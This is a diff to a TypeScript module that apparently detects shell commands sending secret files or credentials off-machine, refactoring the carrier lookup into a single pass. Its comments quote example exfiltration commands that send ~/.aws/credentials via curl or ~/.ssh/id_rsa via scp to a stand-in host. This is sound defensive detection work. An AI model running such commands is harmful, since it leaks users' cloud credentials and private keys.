@@ -146,20 +146,35 @@ export function judgeCarried(carrier: Effect, found: Carried, cx: EgressContext)
 }
 
 /**
+ * The send each command's own items ride on: its first egress, else its first URL (a fetch
+ * carries its words too: `curl -H "Authorization: $T" https://h`). One pass, keyed by the
+ * command as written: looking it up per item made a long script's judging quadratic.
+ */
+function carriersByCommand(items: readonly JudgedEffect[]): Map<string, Effect> {
+  const egress = new Map<string, Effect>();
+  const url = new Map<string, Effect>();
+  for (const { effect } of items) {
+    const command = effect.via?.command;
+    if (command === undefined) continue;
+    const first = effect.kind === "egress" ? egress : effect.kind === "url" ? url : undefined;
+    if (first !== undefined && !first.has(command)) first.set(command, effect);
+  }
+  for (const [command, effect] of url) if (!egress.has(command)) egress.set(command, effect);
+  return egress;
+}
+
+/**
  * A command that sends a file paths.deny_read protects (`curl -d @~/.aws/credentials`, `scp
  * ~/.ssh/id_rsa h:`) carries a secret out (decision 0120): an egress.secrets item, told with the
  * destination the same command sends to, ahead of the read's own item so that it names both.
  */
 export function sentSecretFiles(items: readonly JudgedEffect[], policy: CompiledPolicy): JudgedEffect[] {
   const out: JudgedEffect[] = [];
+  const carriers = carriersByCommand(items);
   for (const item of items) {
     const via = item.effect.via;
     if (via === undefined) continue;
-    // A fetch carries its words too (`curl -H "Authorization: $T" https://h`): its URL is the destination.
-    const carrier = (
-      items.find((i) => i.effect.kind === "egress" && i.effect.via?.command === via.command) ??
-      items.find((i) => i.effect.kind === "url" && i.effect.via?.command === via.command)
-    )?.effect;
+    const carrier = carriers.get(via.command);
     const d = carrier?.destination;
     const where = d === undefined ? "another machine" : describeDestination(d);
     const verdict = policy.egress.secrets;
